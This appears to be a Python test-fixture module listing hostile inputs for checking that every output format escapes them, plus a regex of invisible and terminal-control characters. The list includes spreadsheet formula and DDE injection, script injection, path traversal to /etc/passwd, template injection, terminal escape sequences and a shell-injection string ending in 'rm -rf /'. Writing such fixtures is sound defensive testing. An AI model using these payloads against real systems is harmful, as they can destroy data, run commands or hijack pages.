"""Texts that somebody may type, paste or mean ill with; they go through every format."""

HOSTILE: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "'quoted",
    '"quoted"',
    'say "cut", then; tab\there',
    "one\ntwo\r\nthree\rfour",
    "<script>alert(1)</script>",
    "</style></template><img src=x onerror=alert(1)>",
    "<!-- --><b>&amp;&#x3c;]]>",
    "javascript:alert(1)",
    "INT. BAR [night] [/foo] [link=https://example.org]x[/link]",
    "| a | b |\n|---|---|\n# head\n- item\n```\ncode\n```",
    "![image](https://example.org/x.png) [link](javascript:alert(1))",
    "@channel <@U123> *bold* _slanted_ `code`",
    "\x1b[31mred\x1b[0m\x1b]8;;https://example.org\x07link\x1b]8;;\x07",
    "bell\a null\x00 escape\x1b delete\x7f c1\x85\x9b31m",
    "right\u202eto left\u202c \u2066isolated\u2069 \u200bzero \ufeffmark",
    "line\u2028paragraph\u2029end",
    "日本語の夜明け 🌅 👩‍👩‍👧 e\u0301 \U0001f1eb\U0001f1f7",
    "$(touch /tmp/x) `id` ; rm -rf / && true",
    "../../etc/passwd",
    "{{7*7}} ${7*7} %s %d {0}",
    "* FROM CLIP NAME: other\n001  AX       V     C        00:00:00:00",
    "soraplan-receipt=1 plan=0 order=0 version=9 soraplan-receipt=end",
    "\ufffe\uffff",
    "tags\U000e0001\U000e0074\U000e0065\U000e007f",
    "notes\ufff9a\ufffbb join\u2060\u200c\u00ad\u061c\u180e",
    "private\ue000\U000f0000\U0010fffd",
    "fillers\u3164\u115f\uffa0 variants\ufe0f\U000e0100 \U0001f3fd",
    "Z\u0336\u0321\u032a\u032f\u0368" * 3 + "a" + "\u0301" * 500,
    "\u0301\u0301no letter",
    "\ufdfd\U00012031\u2e3b " * 9,
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "\u06cc\u200c\u0646 1\ufe0f\u20e3",
    "\x1b[2J\x1b[999;999H\x1b[?1049l\x1b]0;title\x07\x1bP1$r\x1b\\\x1bc\x0e",
    "[@click=app.quit]quit[/] [red on red]x[/red on red] $primary {!r}",
    "x" * 100_000,
)
"""Each is one prompt, title or name; a text that a line cannot hold is a prompt only."""

UNSEEN = (
    "[\x00-\x1f\x7f-\x9f\u00ad\u061c\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f"
    "\ufe00-\ufe0f\ufeff\ufff9-\ufffb\ud800-\udfff\U0001f3fb-\U0001f3ff\U000e0000-\U000e01ef]"
)
"""A regular expression of characters that steer a terminal or do not show on it."""

HOSTILE_LINES: tuple[str, ...] = tuple(
    text for text in HOSTILE if "\n" not in text and "\r" not in text
)
